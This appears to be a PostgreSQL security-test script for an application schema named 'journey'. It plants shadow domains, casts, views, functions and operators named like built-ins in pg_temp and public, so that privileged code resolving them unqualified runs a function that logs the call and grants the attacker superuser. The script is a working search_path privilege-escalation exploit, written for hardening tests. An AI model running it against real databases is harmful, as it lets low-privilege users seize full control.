-- Run as an attacker (app, relay or admin role, logged in): creates, in pg_temp and in public,
-- objects named like the built-ins and tables journey's functions use, each of which runs
-- pg_temp.hostile / public.hostile_<role>: logs the run and, when running as a superuser, makes
-- the attacker one. Everything below names built-ins schema-qualified: once pg_temp.text
-- exists, an unqualified text in this session is the hostile domain.
CREATE FUNCTION pg_temp.hostile(via pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.hostile_log (attacker, ran_as, via) VALUES (session_user, current_user, via);
    IF current_user OPERATOR(pg_catalog.<>) session_user THEN
        RAISE WARNING 'hostile code ran as % (via %)', current_user, via;
    END IF;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', session_user);
    END IF;
    RETURN true;
END
$$;
DO $do$
DECLARE
    me pg_catalog.text := 'hostile_' OPERATOR(pg_catalog.||) current_user;
    t pg_catalog.text;
    s pg_catalog.text;
    f pg_catalog.text[];
    o pg_catalog.text[];
BEGIN
    -- the same in public, for the objects created there (they outlive the session:
    -- disarm_hostile.sql drops them)
    EXECUTE pg_catalog.format($f$
        CREATE FUNCTION public.%I(via pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS $b$
        BEGIN
            INSERT INTO public.hostile_log (attacker, ran_as, via) VALUES (session_user, current_user, via);
            IF current_user OPERATOR(pg_catalog.<>) session_user THEN
                RAISE WARNING 'hostile code ran as %% (via %%)', current_user, via;
            END IF;
            IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
                EXECUTE pg_catalog.format('ALTER ROLE %%I SUPERUSER', session_user);
            END IF;
            RETURN true;
        END
        $b$$f$, me);
    -- 1. domains named like built-in types (and their array types), in pg_temp and in public;
    --    the CHECK runs the hostile function whenever a value is coerced to the domain
    FOREACH s IN ARRAY ARRAY['pg_temp', 'public'] LOOP
        FOREACH t IN ARRAY ARRAY['text', 'varchar', 'bpchar', 'char', 'name', 'int2', 'int4', 'int8',
                                 'smallint', 'integer', 'bigint', 'bool', 'boolean', 'float4', 'float8',
                                 'numeric', 'jsonb', 'json', 'uuid', 'timestamptz', 'timestamp', 'date',
                                 'time', 'interval', 'oid', 'bytea', 'tid'] LOOP
            EXECUTE pg_catalog.format('CREATE DOMAIN %I.%I AS pg_catalog.%s CHECK (%s(%L))', s, t,
                CASE t WHEN 'smallint' THEN 'int2' WHEN 'integer' THEN 'int4' WHEN 'bigint' THEN 'int8'
                       WHEN 'boolean' THEN 'bool' WHEN 'char' THEN '"char"' ELSE t END,
                CASE s WHEN 'pg_temp' THEN 'pg_temp.hostile' ELSE pg_catalog.quote_ident(me) END,
                'domain ' OPERATOR(pg_catalog.||) s OPERATOR(pg_catalog.||) '.' OPERATOR(pg_catalog.||) t);
        END LOOP;
    END LOOP;
    -- 2. types the attacker owns named like built-ins, with hostile implicit casts from and to
    --    text (a cast needs the ownership of one of its types; casts of domains are ignored)
    FOREACH t IN ARRAY ARRAY['regclass', 'regnamespace', 'regprocedure', 'regtype', 'regrole'] LOOP
        EXECUTE pg_catalog.format('CREATE TYPE pg_temp.%I AS ENUM (%L)', t, 'x');
        EXECUTE pg_catalog.format('CREATE FUNCTION pg_temp.%I(pg_catalog.text) RETURNS pg_temp.%I LANGUAGE sql AS %L',
            'to_' OPERATOR(pg_catalog.||) t, t,
            pg_catalog.format('SELECT CASE WHEN pg_temp.hostile(%L) THEN %L::pg_temp.%I END', 'cast text to pg_temp.' OPERATOR(pg_catalog.||) t, 'x', t));
        EXECUTE pg_catalog.format('CREATE CAST (pg_catalog.text AS pg_temp.%I) WITH FUNCTION pg_temp.%I(pg_catalog.text) AS IMPLICIT',
            t, 'to_' OPERATOR(pg_catalog.||) t);
        EXECUTE pg_catalog.format('CREATE FUNCTION pg_temp.%I(pg_temp.%I) RETURNS pg_catalog.text LANGUAGE sql AS %L',
            'from_' OPERATOR(pg_catalog.||) t, t,
            pg_catalog.format('SELECT CASE WHEN pg_temp.hostile(%L) THEN %L END', 'cast pg_temp.' OPERATOR(pg_catalog.||) t OPERATOR(pg_catalog.||) ' to text', 'x'));
        EXECUTE pg_catalog.format('CREATE CAST (pg_temp.%I AS pg_catalog.text) WITH FUNCTION pg_temp.%I(pg_temp.%I) AS IMPLICIT',
            t, 'from_' OPERATOR(pg_catalog.||) t, t);
    END LOOP;
    -- 3. temporary views named like journey's tables and the triggers' transition tables:
    --    reading one runs the hostile function
    FOREACH t IN ARRAY ARRAY['contacts', 'groups', 'group_members', 'forms', 'form_submissions', 'event_types',
                             'events', 'templates', 'flows', 'flow_versions', 'flow_triggers', 'enrollments',
                             'steps', 'outbox', 'delivery_reports', 'settings', 'flow_overview', 'new_rows',
                             'old_rows', 'pg_roles', 'pg_class'] LOOP
        EXECUTE pg_catalog.format('CREATE VIEW pg_temp.%I AS SELECT * FROM pg_catalog.generate_series(1, 3) AS g (id) WHERE pg_temp.hostile(%L)',
            t, 'view pg_temp.' OPERATOR(pg_catalog.||) t);
    END LOOP;
    -- 4. functions named like the built-ins journey's SQL calls, in pg_temp and in public, with
    --    the built-ins' argument types (and better matches than the polymorphic ones)
    FOREACH s IN ARRAY ARRAY['pg_temp', 'public'] LOOP
        FOREACH f SLICE 1 IN ARRAY ARRAY[
                ['now', '', 'pg_catalog.timestamptz'], ['gen_random_uuid', '', 'pg_catalog.uuid'],
                ['lower', 'pg_catalog.text', 'pg_catalog.text'], ['btrim', 'pg_catalog.text', 'pg_catalog.text'],
                ['length', 'pg_catalog.text', 'pg_catalog.int4'], ['substr', 'pg_catalog.text, pg_catalog.int4', 'pg_catalog.text'],
                ['format', 'pg_catalog.text', 'pg_catalog.text'], ['format', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.text'],
                ['jsonb_typeof', 'pg_catalog.jsonb', 'pg_catalog.text'], ['jsonb_object_keys', 'pg_catalog.jsonb', 'pg_catalog.text'],
                ['jsonb_array_elements', 'pg_catalog.jsonb', 'pg_catalog.jsonb'], ['jsonb_build_object', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.jsonb'],
                ['jsonb_build_object', 'pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.text', 'pg_catalog.jsonb'],
                ['to_jsonb', 'journey.contacts', 'pg_catalog.jsonb'], ['to_jsonb', 'pg_catalog.text', 'pg_catalog.jsonb'],
                ['power', 'pg_catalog.float8, pg_catalog.float8', 'pg_catalog.float8'], ['power', 'pg_catalog.numeric, pg_catalog.numeric', 'pg_catalog.numeric'],
                ['greatest', 'pg_catalog.int4, pg_catalog.int4', 'pg_catalog.int4'],
                ['unnest', 'pg_catalog.text[]', 'pg_catalog.text'], ['unnest', 'pg_catalog.int8[]', 'pg_catalog.int8'],
                ['to_char', 'pg_catalog.date, pg_catalog.text', 'pg_catalog.text'],
                ['to_char', 'pg_catalog.timestamptz, pg_catalog.text', 'pg_catalog.text'],
                ['round', 'pg_catalog.numeric, pg_catalog.int4', 'pg_catalog.numeric'],
                ['_wake', '', 'pg_catalog.void'], ['_enroll', 'pg_catalog.int8[], pg_catalog.int8[], pg_catalog.jsonb[]', 'pg_catalog.int8'],
                ['_matches', 'pg_catalog.jsonb, pg_catalog.int8, pg_catalog.jsonb', 'pg_catalog.bool'],
                ['_outbox_row', 'pg_catalog.int8', 'journey.outbox'], ['_status_rank', 'pg_catalog.text', 'pg_catalog.int4'],
                ['_map_fields', 'pg_catalog.jsonb, pg_catalog.jsonb', 'pg_catalog.jsonb'],
                ['_apply_contact_fields', 'pg_catalog.int8, pg_catalog.jsonb', 'pg_catalog.void']] LOOP
            EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS %L', s, f[1], f[2],
                CASE WHEN f[1] IN ('unnest', 'jsonb_object_keys', 'jsonb_array_elements', '_enroll') THEN 'SETOF ' ELSE '' END, f[3],
                pg_catalog.format('BEGIN PERFORM %s(%L); RETURN%s; END',
                    CASE s WHEN 'pg_temp' THEN 'pg_temp.hostile' ELSE pg_catalog.quote_ident(me) END,
                    'function ' OPERATOR(pg_catalog.||) s OPERATOR(pg_catalog.||) '.' OPERATOR(pg_catalog.||) f[1] OPERATOR(pg_catalog.||) '(' OPERATOR(pg_catalog.||) f[2] OPERATOR(pg_catalog.||) ')',
                    CASE WHEN f[3] = 'pg_catalog.void' OR f[1] IN ('unnest', 'jsonb_object_keys', 'jsonb_array_elements', '_enroll') THEN '' ELSE ' NULL' END));
        END LOOP;
        -- 5. operators named like the built-ins journey's SQL uses, with the same operand types
        FOREACH o SLICE 1 IN ARRAY ARRAY[
                ['=', 'pg_catalog.text', 'pg_catalog.text'], ['<>', 'pg_catalog.text', 'pg_catalog.text'],
                ['~', 'pg_catalog.text', 'pg_catalog.text'], ['!~', 'pg_catalog.text', 'pg_catalog.text'],
                ['||', 'pg_catalog.text', 'pg_catalog.text'], ['||', 'pg_catalog.jsonb', 'pg_catalog.jsonb'],
                ['?', 'pg_catalog.jsonb', 'pg_catalog.text'], ['->', 'pg_catalog.jsonb', 'pg_catalog.text'],
                ['->>', 'pg_catalog.jsonb', 'pg_catalog.text'], ['#>>', 'pg_catalog.jsonb', 'pg_catalog.text[]'],
                ['=', 'pg_catalog.int8', 'pg_catalog.int8'], ['=', 'pg_catalog.int4', 'pg_catalog.int4'],
                ['<', 'pg_catalog.int4', 'pg_catalog.int4'], ['>', 'pg_catalog.int4', 'pg_catalog.int4'],
                ['=', 'pg_catalog.uuid', 'pg_catalog.uuid'], ['=', 'pg_catalog.jsonb', 'pg_catalog.jsonb'],
                ['<>', 'pg_catalog.jsonb', 'pg_catalog.jsonb'],
                ['<', 'pg_catalog.timestamptz', 'pg_catalog.timestamptz'], ['>', 'pg_catalog.timestamptz', 'pg_catalog.timestamptz'],
                ['+', 'pg_catalog.timestamptz', 'pg_catalog.interval'], ['-', 'pg_catalog.timestamptz', 'pg_catalog.interval'],
                ['<', 'pg_catalog.interval', 'pg_catalog.interval'], ['*', 'pg_catalog.interval', 'pg_catalog.float8'],
                ['=', 'pg_catalog.bool', 'pg_catalog.bool'], ['=', 'pg_catalog.name', 'pg_catalog.name'],
                ['=', 'pg_catalog.name', 'pg_catalog.text'], ['=', 'pg_catalog.text', 'pg_catalog.name']] LOOP
            EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s, %s) RETURNS pg_catalog.bool LANGUAGE plpgsql AS %L', s,
                'op_' OPERATOR(pg_catalog.||) pg_catalog.md5(o[1] OPERATOR(pg_catalog.||) o[2] OPERATOR(pg_catalog.||) o[3]), o[2], o[3],
                pg_catalog.format('BEGIN PERFORM %s(%L); RETURN NULL; END',
                    CASE s WHEN 'pg_temp' THEN 'pg_temp.hostile' ELSE pg_catalog.quote_ident(me) END,
                    'operator ' OPERATOR(pg_catalog.||) s OPERATOR(pg_catalog.||) '.' OPERATOR(pg_catalog.||) o[1] OPERATOR(pg_catalog.||) ' (' OPERATOR(pg_catalog.||) o[2] OPERATOR(pg_catalog.||) ', ' OPERATOR(pg_catalog.||) o[3] OPERATOR(pg_catalog.||) ')'));
            EXECUTE pg_catalog.format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.%I)', s, o[1], o[2], o[3], s,
                'op_' OPERATOR(pg_catalog.||) pg_catalog.md5(o[1] OPERATOR(pg_catalog.||) o[2] OPERATOR(pg_catalog.||) o[3]));
        END LOOP;
    END LOOP;
END
$do$;
-- armed: a coercion to text in the attacker's own session runs the hostile check (as the
-- attacker: no warning, a log row)
SELECT 'armed'::text AS armed;
